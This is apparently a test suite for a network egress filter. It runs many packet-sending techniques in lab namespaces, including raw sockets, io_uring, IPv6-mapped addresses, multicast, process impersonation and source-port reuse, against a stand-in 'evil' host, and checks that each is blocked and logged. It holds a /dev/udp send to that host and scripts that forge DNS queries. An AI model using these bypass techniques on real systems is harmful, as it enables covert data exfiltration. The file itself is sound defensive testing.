import { type ChildProcess, spawn, spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { LogEvent } from '../../src/log/event.ts';
import { type Lab, type Packet, type RunResult, reached, readJsonLines, WORLD } from '../e2e/lab.ts';
import {
  type Attempt,
  attack,
  attempts,
  type Both,
  denials,
  PYTHON,
  PYTHON_EXE,
  pidOf,
  program,
  startAttackLab,
  unfiltered,
} from './attack.ts';

let lab: Lab;
beforeAll(async () => {
  lab = await startAttackLab(['uring']);
  // Echo sockets for everybody, as distributions have it; a new namespace has nobody.
  spawnSync('ip', ['netns', 'exec', lab.job, 'sysctl', '-qw', 'net.ipv4.ping_group_range=0 65535']);
  // A default route for IPv6, so that even ::1 has a way out for who insists on an interface.
  spawnSync('ip', ['-n', lab.job, '-6', 'route', 'add', 'default', 'via', 'fd77::1']);
});
afterAll(() => lab?.stop());

const POLICY = 'ok.test\nhttp://ok.test/*\n203.0.113.10:9999\n203.0.113.10:9999/udp';

/** Whether this kernel makes such a socket at all. */
function makes(parameters: string): boolean {
  return spawnSync(PYTHON, ['-c', `import socket; socket.socket(${parameters})`]).status === 0;
}

const to = (port: number) => (packet: Packet) => packet.dport === port;

/** Everything of this run that is neither for the allowed server nor for the resolver, nor said by the kernel to them. */
const strange = ({ packets }: { packets: Packet[] }): Packet[] =>
  packets.filter(({ dst }) => dst !== WORLD.ok && dst !== WORLD.dns && dst !== '224.0.0.22');

interface Group {
  both: Both;
  free: Map<string, Attempt>;
  caught: Map<string, Attempt>;
}

async function runGroup(name: string, user = 'nobody'): Promise<Group> {
  const both = await attack(lab, [PYTHON, program(lab, 'packets.py'), name, WORLD.ok, WORLD.evil], { policy: POLICY, user });
  return { both, free: attempts(both.free.stdout), caught: attempts(both.caught.stdout) };
}

/** The three proofs for one way, which has a destination port of its own. */
function proves({ both }: Group, port: number): void {
  expect(both.free.packets.filter(to(port)), 'without the filter it leaves').not.toEqual([]);
  expect(both.caught.packets.filter(to(port)), 'with it nothing does').toEqual([]);
  const line = denials(both.caught).find(({ dst_port }) => dst_port === port);
  expect(line, `a line about port ${port}`).toMatchObject({ exe: PYTHON_EXE, pid: pidOf(both.caught, 'packets.py'), uid: 65534 });
}

describe('P1: every call that hands bytes to a socket', () => {
  const ways = [
    'unconnected',
    'connected',
    'connected_elsewhere',
    'reconnected',
    'writev',
    'corked',
    'corked_by_flag',
    'segmented',
    'fragmented',
    'sendmmsg',
    'splice_udp',
    'splice_tcp',
    'sendfile_udp',
    'sendfile_tcp',
    'fast_open',
    'fast_open_connect',
    'urgent',
  ];
  let group: Group;
  beforeAll(async () => {
    group = await runGroup('P1');
  });
  test('nothing but what is allowed leaves', () => {
    expect(strange(group.both.free)).not.toEqual([]);
    expect(strange(group.both.caught)).toEqual([]);
    expect(reached(group.both.caught, WORLD.evil)).toEqual([]);
    expect(
      group.both.caught.seen.some(({ text }) => text === 'fine'),
      'the allowed flow works',
    ).toBe(true);
  });
  test.each(ways.map((way, index) => [way, 20000 + index] as const))('%s', (_way, port) => proves(group, port));

  const uring = spawnSync(PYTHON, ['-c', 'import ctypes; exit(ctypes.CDLL(None).syscall(425, 1, ctypes.create_string_buffer(120)) < 0)']);
  test.skipIf(uring.status !== 0)('io_uring connects and sends (skipped where the kernel has no io_uring)', async () => {
    const { free, caught } = await attack(lab, [program(lab, 'uring'), WORLD.evil, '9999'], { policy: POLICY });
    expect(attempts(free.stdout).get('io_uring')?.got).toBe('send: ok');
    expect(free.packets.some(({ dst, data }) => dst === WORLD.evil && data === 6)).toBe(true);
    // Where BPF refuses sockets, io_uring works and is denied as any other; where seccomp has to, there is no ring at all.
    const refused = attempts(caught.stdout).get('io_uring')?.got === 'io_uring_setup: Function not implemented';
    if (!refused) expect(denials(caught)).toContainEqual(expect.objectContaining({ dst_port: 9999, exe: program(lab, 'uring') }));
    // What is still closing is that of the run before.
    expect(caught.packets.filter(({ dst, flags = 0 }) => dst === WORLD.evil && (flags & 4) === 0)).toEqual([]);
  });
});

describe('P2: other protocols, as root', () => {
  let group: Group;
  beforeAll(async () => {
    group = await runGroup('P2', 'root');
  });
  test('nothing at all leaves', () => {
    expect(group.both.free.packets.filter(({ dst }) => dst === WORLD.evil)).not.toEqual([]);
    expect(strange(group.both.caught)).toEqual([]);
    expect(reached(group.both.caught, WORLD.evil)).toEqual([]);
  });
  const protocols: [string, number, string, string][] = [
    ['icmp_datagram', 1, 'inet/dgram/icmp', 'socket.AF_INET, socket.SOCK_DGRAM, 1'],
    ['raw_1', 1, 'inet/raw/icmp', 'socket.AF_INET, socket.SOCK_RAW, 1'],
    ['raw_47', 47, 'inet/raw/gre', 'socket.AF_INET, socket.SOCK_RAW, 47'],
    ['raw_253', 253, 'inet/raw/253', 'socket.AF_INET, socket.SOCK_RAW, 253'],
    ['raw_17', 17, 'inet/raw/udp', 'socket.AF_INET, socket.SOCK_RAW, 17'],
    ['raw_6', 6, 'inet/raw/tcp', 'socket.AF_INET, socket.SOCK_RAW, 6'],
    ['own_ip_header', 17, 'inet/raw/raw', 'socket.AF_INET, socket.SOCK_RAW, 255'],
    ['own_fragments', 17, 'inet/raw/raw', 'socket.AF_INET, socket.SOCK_RAW, 255'],
    ['udplite', 136, 'inet/dgram/udplite', 'socket.AF_INET, socket.SOCK_DGRAM, 136'],
    ['sctp', 132, 'inet/stream/sctp', 'socket.AF_INET, socket.SOCK_STREAM, 132'],
    ['dccp', 33, 'inet/dccp/dccp', 'socket.AF_INET, 6, 33'],
  ];
  for (const [way, proto, protocol, parameters] of protocols) {
    // The group range of this machine does not count, that of the job's namespace does.
    const made = way === 'icmp_datagram' || makes(parameters);
    test.skipIf(!made)(`${way}${made ? '' : ' (skipped: this kernel makes no such socket)'}`, () => {
      expect(group.both.free.packets.some((packet) => packet.dst === WORLD.evil && packet.proto === proto)).toBe(true);
      expect(group.caught.get(way)?.got).toMatch(/^1: /);
      // For a raw socket the kernel asks for CAP_NET_RAW first, which even root does not have here: nothing of the filter's own is refused.
      if (protocol.includes('/raw/')) return;
      expect(denials(group.both.caught)).toContainEqual(
        expect.objectContaining({ type: 'socket', protocol, exe: PYTHON_EXE, pid: pidOf(group.both.caught, 'packets.py') }),
      );
    });
  }
});

describe('P3: around the IP layer, as root', () => {
  let group: Group;
  beforeAll(async () => {
    // A machine that sends on what comes in, as one with containers does.
    for (const setting of ['net.ipv4.ip_forward=1', 'net.ipv4.conf.all.rp_filter=0', 'net.ipv4.conf.default.rp_filter=0'])
      spawnSync('ip', ['netns', 'exec', lab.job, 'sysctl', '-qw', setting]);
    // As root makes them for virtual machines.
    for (const make of ['tuntap add dev egft1 mode tun', 'addr add 10.99.8.1/24 dev egft1', 'link set egft1 up'])
      spawnSync('ip', ['-n', lab.job, ...make.split(' ')]);
    group = await runGroup('P3', 'root');
    spawnSync('ip', ['netns', 'exec', lab.job, 'sysctl', '-qw', 'net.ipv4.ip_forward=0']);
  });
  test('nothing at all leaves', () => {
    expect(strange(group.both.caught)).toEqual([]);
    expect(reached(group.both.caught, WORLD.evil)).toEqual([]);
  });
  const hasTun = existsSync('/dev/net/tun');
  const frames: [string, number, boolean][] = [
    ['packet_raw', 20000, true],
    ['packet_cooked', 20001, true],
    ['packet_past_the_queue', 20002, true],
    ['tun', 20005, hasTun],
    ['tun_of_the_machine', 20006, hasTun],
  ];
  for (const [way, port, possible] of frames) {
    test.skipIf(!possible)(`${way}${possible ? '' : ' (skipped: this machine has no /dev/net/tun)'}`, () => {
      expect(group.both.free.packets.filter(to(port)), group.free.get(way)?.got).not.toEqual([]);
      expect(group.both.caught.packets.filter(to(port))).toEqual([]);
      // EPERM, or EAFNOSUPPORT where seccomp stands in for a kernel program; of a device EROFS, as a file that is empty lies over it.
      expect(group.caught.get(way)?.got).toMatch(way.startsWith('tun') ? /^30: / : /^(1|97): /);
    });
  }
  for (const [way, parameters] of [
    ['xdp', '44, socket.SOCK_RAW, 0'],
    ['vsock', '40, socket.SOCK_STREAM, 0'],
  ] as const) {
    const made = makes(parameters);
    test.skipIf(!made)(`${way}${made ? '' : ' (skipped: this kernel makes no such socket)'}`, () => {
      expect(group.free.get(way)?.got).toBe('made');
      expect(group.caught.get(way)?.got).toMatch(/^(1|97): /);
    });
  }
});

describe('P4: IPv6 and IPv4 in its clothes', () => {
  let group: Group;
  beforeAll(async () => {
    group = await runGroup('P4');
  });
  test.each([
    ['mapped_udp', 20000],
    ['mapped_udp_connected', 20001],
    ['mapped_tcp', 20002],
  ])('%s is filtered as IPv4', (_way, port) => proves(group, port));

  test.each([
    ['ipv6_udp', 20003],
    ['ipv6_udp_connected', 20004],
    ['ipv6_tcp', 20005],
    ['ipv6_multicast', 20006],
    ['ipv6_link_local', 20007],
  ])('%s', (way, port) => {
    expect(group.caught.get(way)?.got).toMatch(/^1: /);
    expect(denials(group.both.caught)).toContainEqual(
      expect.objectContaining({ dst_port: port, exe: PYTHON_EXE, pid: pidOf(group.both.caught, 'packets.py'), protocol: 'ipv6' }),
    );
  });
  test('no IPv6 packet leaves, not even one for ::1 by the way of another interface', () => {
    expect(group.both.free.packets.filter(({ v6, dst }) => v6 && dst === 'fd77::1').length).toBeGreaterThanOrEqual(3);
    expect(group.both.caught.packets.filter(({ v6 }) => v6)).toEqual([]);
  });
  test('::1 works, and an IPv4-mapped address where a rule allows it', async () => {
    const script = [
      'import socket',
      "l=socket.socket(socket.AF_INET6); l.bind(('::1',0)); l.listen(); c=socket.create_connection(l.getsockname()[:2]); print('loopback')",
      `s=socket.socket(socket.AF_INET6); s.connect(('::ffff:${WORLD.ok}',9999)); s.sendall(b'mapped'); print(s.recv(6))`,
    ];
    const { stdout } = await lab.run([PYTHON, '-c', script.join('\n')], { policy: POLICY });
    expect(stdout).toBe("loopback\nb'mapped'\n");
  });
  const mptcp = makes('socket.AF_INET, socket.SOCK_STREAM, 262');
  test.skipIf(!mptcp)(`MPTCP is refused${mptcp ? '' : ' (skipped: this kernel has no MPTCP)'}`, async () => {
    const script = `import socket; s=socket.socket(socket.AF_INET,socket.SOCK_STREAM,262); s.connect(('${WORLD.evil}',9999))`;
    expect(unfiltered(lab, [PYTHON, '-c', script]).packets.some(({ dst }) => dst === WORLD.evil)).toBe(true);
    const caught = await lab.run([PYTHON, '-c', script], { policy: POLICY });
    expect(caught.stderr).toContain('Error');
    expect(denials(caught)).toContainEqual(expect.objectContaining({ type: 'socket', exe: PYTHON_EXE }));
  });
});

describe('P5: source ports, marks, interfaces, routes', () => {
  let group: Group;
  beforeAll(async () => {
    group = await runGroup('P5');
  });
  const all = [
    'reused_source_port',
    'reused_tcp_source_port',
    'marked',
    'transparent',
    'source_of_loopback',
    'pktinfo_source',
    'priority_and_tos',
    'dont_route',
    'bound_device',
    'bound_device_tcp',
    'loopback_bound_device',
    'loopback_unicast_if',
    'loopback_pktinfo',
    'loopback_bound_device_tcp',
    'own_address_bound_device',
    'broadcast',
    'subnet_broadcast',
    'multicast',
    'loose_source_route',
    'record_route',
    'tcp_with_options',
  ];
  const port = (way: string): number => 20000 + all.indexOf(way);

  test.each([
    'reused_source_port',
    'pktinfo_source',
    'priority_and_tos',
    'dont_route',
    'bound_device',
    'broadcast',
    'subnet_broadcast',
    'multicast',
    'record_route',
    'tcp_with_options',
  ])('%s', (way) => proves(group, port(way)));

  test.each(['loopback_bound_device', 'loopback_unicast_if', 'loopback_pktinfo', 'loopback_bound_device_tcp'])(
    '%s: a packet for 127.0.0.1 does not leave by eth0',
    (way) => proves(group, port(way)),
  );

  test('a redirected connection does not leave by the interface that its socket is bound to', () => {
    expect(group.both.free.packets.filter(to(port('bound_device_tcp')))).not.toEqual([]);
    expect(group.both.caught.packets.filter(({ dst }) => dst.startsWith('127.'))).toEqual([]);
    expect(
      denials(group.both.caught).some(({ protocol, dst_ip, uid }) => protocol === 'tcp' && dst_ip === '127.0.0.1' && uid === 65534),
    ).toBe(true);
  });

  test('a source port that is in use for an allowed connection', () => {
    const mine = port('reused_tcp_source_port');
    expect(group.both.free.packets.filter(to(mine))).not.toEqual([]);
    expect(group.both.caught.packets.filter(to(mine))).toEqual([]);
    expect(denials(group.both.caught).some(({ dst_port }) => dst_port === mine)).toBe(true);
  });

  test.each(['marked', 'transparent', 'loose_source_route'])('%s needs a right that the command does not have', (way) => {
    expect(group.caught.get(way)?.got).toMatch(/^1: /);
    expect(group.both.caught.packets.filter(to(port(way)))).toEqual([]);
  });

  test('marks and source routes do not help root either', async () => {
    const caught = await lab.run([PYTHON, program(lab, 'packets.py'), 'P5', WORLD.ok, WORLD.evil], { policy: POLICY, user: 'root' });
    expect(strange(caught)).toEqual([]);
    for (const way of ['marked', 'transparent']) expect(attempts(caught.stdout).get(way)?.got).toMatch(/^1: /);
  });

  test('nothing but what is allowed leaves', () => {
    expect(strange(group.both.caught)).toEqual([]);
    expect(reached(group.both.caught, WORLD.evil)).toEqual([]);
  });
});

describe('P5: multicast groups, of which the kernel tells the network by packets of its own', () => {
  let free: Map<string, Attempt>;
  let caught: Map<string, Attempt>;
  let run: RunResult;
  let inReports: { readonly free: readonly string[]; readonly caught: readonly string[] };
  const groups = ({ packets }: { packets: readonly Packet[] }): string[] => packets.flatMap((packet) => packet.groups ?? []);
  beforeAll(async () => {
    // Groups of its own for each: of those that are left, too, the kernel tells twice, a while later.
    const before = unfiltered(lab, [PYTHON, program(lab, 'groups.py'), '1']);
    run = await lab.run([PYTHON, program(lab, 'groups.py'), '2'], { policy: POLICY });
    free = attempts(before.stdout);
    caught = attempts(run.stdout);
    inReports = { free: groups(before), caught: groups(run).filter((group) => /^(239\.2\.|ff05::2:)/.test(group)) };
  });

  test('without the filter the addresses that the program chose are in reports, with it there are none', () => {
    expect(inReports.free).toEqual(expect.arrayContaining([1, 2, 3, 4, 5, 6, 7, 8, 9].map((last) => `239.1.0.${last}`)));
    expect(inReports.free).toEqual(expect.arrayContaining(['ff05::1:1', 'ff05::1:2', 'ff05::1:3']));
    expect(inReports.caught).toEqual([]);
  });
  test('each is refused but on loopback, and in the log', () => {
    expect([...free.values()].filter(({ got }) => got !== 'joined')).toEqual([]);
    const joined = [...caught.values()].filter(({ got }) => !got.startsWith('1: '));
    expect(joined.map(({ way }) => way)).toEqual(['loopback', 'loopback by index', 'loopback, IPv6']);
    const told = denials(run).filter(({ reason }) => reason?.includes('multicast group'));
    expect(told).toHaveLength(caught.size - joined.length);
    for (const address of ['239.2.0.1', '239.2.0.4', '239.2.0.9', 'ff05::2:1', 'ff05::2:2']) {
      expect(told).toContainEqual(expect.objectContaining({ type: 'socket', dst_ip: address, exe: PYTHON_EXE, uid: 65534 }));
    }
  });
});

describe('P6: the proxy itself', () => {
  test('its ports answer nobody who comes straight to them, and nobody in the name of another', async () => {
    const policy = '*.ok.test exe=/usr/bin/dig\nok.test:*\nhttp://ok.test/*';
    const caught = await lab.run([PYTHON, program(lab, 'loopback.py'), WORLD.evil], { policy });
    const tried = attempts(caught.stdout);
    // Sixteen ports for connections, one for DNS over TCP, one over UDP: what a scan finds is what is tried.
    expect([...tried.keys()].filter((way) => way.startsWith('tls '))).toHaveLength(17);
    expect([...tried.keys()].filter((way) => way.startsWith('udp '))).toHaveLength(2);
    for (const [way, { got }] of tried) expect([way, got]).toEqual([way, expect.stringMatching(/refused|timed out|reset/i)]);
    expect(caught.seen.filter(({ name }) => name?.includes('stolen') || name?.includes('evil'))).toEqual([]);
    expect(reached(caught, WORLD.evil)).toEqual([]);
    expect(reached(caught, WORLD.ok)).toEqual([]);

    const pid = pidOf(caught, 'loopback.py');
    const straight = denials(caught).filter(({ dst_ip, dst_port }) => dst_ip === '127.0.0.1' && dst_port);
    expect(straight.some(({ protocol }) => protocol === 'udp')).toBe(true);
    expect(straight.filter(({ protocol }) => protocol === 'tcp').length).toBeGreaterThanOrEqual(17 * 6);
    for (const line of straight) expect(line).toMatchObject({ exe: PYTHON_EXE, pid });
    // The one query that the allowed program made.
    expect(caught.log.filter(({ exe }) => exe === '/usr/bin/dig').map(({ name }) => name)).toEqual(['www.ok.test']);
  });

  test('a process outside of the run cannot ask in the name of one inside', async () => {
    const inside = 'dig +short -b 0.0.0.0#5556 www.ok.test >/dev/null; cat /proc/net/udp; sleep 3';
    const child = lab.spawn(['bash', '-c', inside], {
      policy: '*.ok.test exe=/usr/bin/dig',
      args: ['--log', `${lab.directory}/outside.jsonl`],
    });
    let stdout = '';
    const port = await new Promise<number>((found) => {
      child.stdout?.on('data', (chunk) => {
        stdout += String(chunk);
        const match = /0100007F:([0-9A-F]{4}) 00000000:0000 07/.exec(stdout);
        if (match?.[1]) found(Number.parseInt(match[1], 16));
      });
    });
    const before = lab.marks();
    const script = `import sys; sys.path.insert(0, '${lab.directory}/attack'); sys.argv=['', '']
import socket, struct
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.bind(('0.0.0.0',5556)); s.settimeout(0.5)
s.sendto(struct.pack('!6H',7,0x100,1,0,0,0)+b'\\x06stolen\\x02ok\\x04test\\0\\0\\1\\0\\1',('127.0.0.1',${port}))
try: print('answer', len(s.recv(512)))
except OSError as e: print(e)`;
    const outside = unfiltered(lab, [PYTHON, '-c', script]);
    expect(outside.stdout).not.toContain('answer');
    expect(lab.since(before).seen).toEqual([]);
    child.kill('SIGTERM');
    await new Promise((done) => child.once('close', done));
  });
});

describe('I1: the name of another program', () => {
  const allowed = '/usr/bin/bash';
  let group: Group;
  beforeAll(async () => {
    const policy = `${WORLD.ok}:* exe=${allowed}\n${WORLD.ok}:*/udp exe=${allowed}`;
    const both = await attack(lab, [PYTHON, program(lab, 'identity.py'), WORLD.ok, allowed], { policy });
    group = { both, free: attempts(both.free.stdout), caught: attempts(both.caught.stdout) };
  }, 180_000);

  test.each([
    ['connected_udp_descriptor', 20001],
    ['tcp_descriptor', 20002],
    ['deferred_syn', 20003],
    ['exec_right_after_connect', 20004],
    ['passed_to_another_process', 20005],
    ['called_as_another', 20006],
    ['hundreds_of_short_lives', 20007],
    ['same_source_port', 20009],
  ])('%s', (_way, port) => {
    expect(group.both.free.packets.filter(to(port))).not.toEqual([]);
    expect(group.both.caught.packets.filter(to(port))).toEqual([]);
    const lines = group.both.caught.log.filter(({ dst_port, type }) => dst_port === port && type !== 'close');
    expect(lines).not.toEqual([]);
    for (const { policy } of lines) expect(policy).toBe('deny');
    expect(lines[0]).toMatchObject({ exe: PYTHON_EXE });
  });

  test('the program that is meant gets through', () => {
    expect(group.both.caught.packets.filter(to(20008))).not.toEqual([]);
    expect(group.both.caught.log.find(({ dst_port }) => dst_port === 20008)).toMatchObject({ policy: 'allow', exe: allowed });
  });

  test('hundreds of processes that are gone at once have their names in the log', () => {
    const lines = group.both.caught.log.filter(({ dst_port, type }) => dst_port === 20007 && type !== 'close');
    const udp = lines.filter(({ type }) => type === 'udp');
    expect(new Set(udp.map(({ pid }) => pid)).size).toBeGreaterThan(140);
    for (const line of udp) expect(line).toMatchObject({ exe: PYTHON_EXE });
    expect(new Set(udp.map(({ ppid }) => ppid)).size, 'one parent').toBe(1);
    const named = lines.filter(({ type, exe }) => type === 'tcp' && exe === PYTHON_EXE);
    expect(named.length).toBeGreaterThan(100);
  });
});

test('the kernel of this machine and what it lets these tests show', () => {
  // A machine without network namespaces or a sniffer would make every "nothing arrived" true.
  expect(existsSync(`/run/netns/${lab.world}`)).toBe(true);
  expect(
    unfiltered(lab, ['bash', '-c', `echo x >/dev/udp/${WORLD.evil}/9999`]).packets.filter(
      ({ dst, dport, proto }) => dst === WORLD.evil && dport === 9999 && proto === 17,
    ),
  ).toHaveLength(1);
});

describe('one source port for many destinations, as the kernel hands them out', () => {
  const script = (destinations: string): string => `import socket
${destinations}
held = []
for host, port in targets:
    s = socket.socket(); s.settimeout(3); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(('0.0.0.0', 44444))
    try: s.connect((host, port)); s.sendall(b'marco' if port > 80 else b'GET /fine HTTP/1.1\\r\\nHost: ' + host.encode() + b'\\r\\n\\r\\n'); print(port, s.recv(12)); held.append(s)
    except OSError as e: print(port, e)`;

  test('allowed connections keep their owner', async () => {
    const policy = `${WORLD.ok}:*\n${WORLD.other}:*`;
    const { stdout, log } = await lab.run(
      [PYTHON, '-c', script(`targets = [('${WORLD.ok}', 80), ('${WORLD.other}', 80), ('${WORLD.ok}', 9999)]`)],
      { policy },
    );
    expect(stdout.split('\n').filter((line) => /HTTP\/1.1 200|marco/.test(line))).toHaveLength(3);
    for (const line of log) expect(line).toMatchObject({ exe: PYTHON_EXE, src_port: 44444 });
  });

  test('more of them than the proxy has ports lose it, and with it the connection', async () => {
    const targets = `targets = [('${WORLD.evil}', port) for port in range(20000, 20025)]`;
    const caught = await lab.run([PYTHON, '-c', script(targets)], { policy: POLICY });
    expect(reached(caught, WORLD.evil)).toEqual([]);
    expect(denials(caught)).toHaveLength(25);
  });
});

test('P1: who connects from outside hears nothing, not even that somebody listens', async () => {
  // It listens until its input ends: how long it takes until somebody knocks is the machine's.
  const inside = `import os, socket, sys, threading
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); l.bind(('0.0.0.0', 7777)); l.listen()
u = socket.socket(2, 2); u.bind(('0.0.0.0', 7778))
def tcp():
    try: c, a = l.accept(); c.sendall(b's3cret'); print('tcp', c.recv(6))
    except OSError as e: print('tcp', e)
def udp():
    try: d, a = u.recvfrom(9); u.sendto(b's3cret', a)
    except OSError as e: print('udp', e)
for target in (tcp, udp): threading.Thread(target=target, daemon=True).start()
print('listening', flush=True)
sys.stdin.read(); sys.stdout.flush(); os._exit(0)`;
  const outside = (patience: number): string => `import socket
s = socket.socket(); s.bind(('${WORLD.evil}', 0)); s.settimeout(${patience}); u = socket.socket(2, 2); u.bind(('${WORLD.evil}', 0)); u.settimeout(${patience})
u.sendto(b'hello', ('10.77.0.2', 7778))
try: s.connect(('10.77.0.2', 7777)); s.sendall(b'hello!'); print('tcp', s.recv(9))
except OSError as e: print(e)
try: print('udp', u.recv(9))
except OSError as e: print(e)`;
  const knock = (patience: number): string =>
    spawnSync('ip', ['netns', 'exec', lab.world, PYTHON, '-c', outside(patience)], { encoding: 'utf8' }).stdout;
  /** Knocks when the program inside listens. */
  const visit = async (child: ChildProcess, patience: number): Promise<string> => {
    const closed = new Promise((done) => child.once('exit', done));
    child.stderr?.resume();
    await new Promise<void>((ready) => child.stdout?.on('data', (chunk) => String(chunk).includes('listening') && ready()));
    const heard = knock(patience);
    child.stdin?.end();
    await closed;
    return heard;
  };
  expect(await visit(spawn('ip', ['netns', 'exec', lab.job, PYTHON, '-c', inside]), 30)).toBe("tcp b's3cret'\nudp b's3cret'\n");
  await lab.quiet();

  const before = lab.marks();
  const log = join(lab.directory, 'inbound.jsonl');
  expect(await visit(lab.spawn([PYTHON, '-c', inside], { policy: POLICY, args: ['--log', log] }), 1.5)).toBe('timed out\ntimed out\n');
  await lab.settle();
  expect(reached(lab.since(before), WORLD.evil)).toEqual([]);
  const lines = readJsonLines<LogEvent>(log);
  expect(denials({ log: lines })).toContainEqual(expect.objectContaining({ type: 'udp', src_port: 7778, exe: PYTHON_EXE }));
});
